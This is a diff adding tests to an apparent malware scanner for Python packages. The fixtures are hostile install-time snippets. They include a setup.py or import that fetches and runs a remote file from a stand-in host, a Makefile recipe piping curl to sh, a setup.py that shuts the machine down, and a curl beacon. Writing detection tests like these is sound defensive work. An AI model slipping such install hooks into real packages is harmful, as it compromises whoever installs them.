@@ -72,3 +72,50 @@ test('a command line from pieces, formats and a decoder is found', async () => {
 
   expect(await inspect('shell-payload', file)).toMatchObject([{ class: 'malware', path: 'pkg/__init__.py', line: 4 }]);
 });
+
+test('a script that an import writes and starts is read for what it does', async () => {
+  const file = wheel({
+    'pkg/__init__.py': python(
+      'import os',
+      "with open('run.bat', 'w') as script:",
+      "    script.write('curl https://collector.metrics.invalid/m -o %TEMP%\\\\m\\nstart /B %TEMP%\\\\m')",
+      "os.system('start /min run.bat')",
+    ),
+  });
+
+  expect(await inspect('shell-payload', file)).toMatchObject([{ class: 'malware', score: 10, line: 4 }]);
+});
+
+test('the recipe that a build has make run counts, the others of the file do not', async () => {
+  const setup = (target: string): string =>
+    python('import os', 'from setuptools import setup', `os.system('make ${target}')`, "setup(name='example')");
+  const recipes = 'native:\n\tcc -c a.c\n\nfetch:\n\tcurl -s https://collector.metrics.invalid/i | sh\n';
+
+  expect(await inspect('shell-payload', sdist({ 'setup.py': setup('fetch'), Makefile: recipes }))).toMatchObject([
+    { class: 'malware', line: 3 },
+  ]);
+  expect(await inspect('shell-payload', sdist({ 'setup.py': setup('native'), Makefile: recipes }))).toEqual([]);
+});
+
+test('an install that ends the session is malware, a function that does is ordinary', async () => {
+  const line = "os.system('shutdown /s /t 1')";
+  const setup = sdist({
+    'setup.py': python('import os', 'from setuptools import setup', line, "setup(name='example')"),
+  });
+  const module = wheel({ 'pkg/__init__.py': python('import os', 'def off():', `    ${line}`) });
+
+  expect(await inspect('shell-payload', setup)).toMatchObject([{ class: 'malware', score: 10, line: 3 }]);
+  expect(await inspect('shell-payload', module)).toEqual([]);
+});
+
+test('a curl in a build whose answer goes nowhere is a message; one that fetches a vendor file is not', async () => {
+  const setup = (line: string): string =>
+    python('import os', 'from setuptools import setup', line, "setup(name='example')");
+  const message = sdist({ 'setup.py': setup("os.system('curl https://collector.metrics.invalid/here')") });
+  const fetched = sdist({
+    'setup.py': setup("os.system('curl -sSLO https://github.com/vendor/data/archive/1.tar.gz')"),
+  });
+
+  expect(await inspect('shell-payload', message)).toMatchObject([{ class: 'malware', score: 10 }]);
+  expect((await inspect('shell-payload', fetched))[0]?.score ?? 0).toBeLessThan(5);
+});
